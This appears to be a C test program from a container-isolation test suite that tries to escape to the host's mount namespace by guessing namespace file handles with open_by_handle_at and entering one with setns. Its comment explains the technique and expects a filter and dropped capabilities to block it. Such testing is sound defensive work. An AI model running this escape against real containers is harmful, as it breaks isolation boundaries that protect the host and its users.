/* SPDX-License-Identifier: MIT
 *
 * Go back to the host's mount table, by its number.
 *
 * Since Linux 6.18 open_by_handle_at(2) opens namespaces as well. It takes a
 * constant instead of a descriptor, and no process and no name of the host's
 * is needed: the first mount namespace has a fixed inode and a small number
 * that is given out as the kernel starts. Who is in that namespace again,
 * with setns(2), has all of the host's files. A PID namespace hides numbers
 * of processes, and these are others. Harmless: only this process moves, and
 * it ends. Step 4 stops it, by the filter; and CAP_SYS_ADMIN is gone, which
 * it takes in the host's user namespace. See include/uapi/linux/nsfs.h.
 */
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <unistd.h>

#include "attack.h"

enum { NSFS_ROOT = -10003, NSFS_HANDLE = 0xf1 };
#define FIRST_MOUNT_NAMESPACE 0xeffffff8U
enum { FEW = 64 };

int main(void)
{
    struct {
        uint64_t number;
        uint32_t type, inode;
    } namespace = {.type = CLONE_NEWNS, .inode = FIRST_MOUNT_NAMESPACE};
    union {
        struct file_handle head;
        char space[sizeof(struct file_handle) + sizeof(namespace)];
    } handle = {.head.handle_bytes = sizeof(namespace),
                .head.handle_type = NSFS_HANDLE};
    int fd = -1;

    while (fd < 0 && namespace.number++ < FEW) {
        memcpy(handle.head.f_handle, &namespace, sizeof(namespace));
        fd = open_by_handle_at(NSFS_ROOT, &handle.head, O_RDONLY);
        if (fd < 0 && errno == EBADF)
            does_not_apply("this kernel has no handles of namespaces");
        if (fd < 0 && errno != ESTALE)
            stopped_or_missing("open_by_handle_at");
    }
    if (fd < 0) /* what it says of one that is not for us, too */
        stopped("open_by_handle_at");
    if (setns(fd, CLONE_NEWNS) < 0)
        stopped_or_missing("setns");
    learned("entered the host's mount namespace, number %d",
            (int)namespace.number);
}
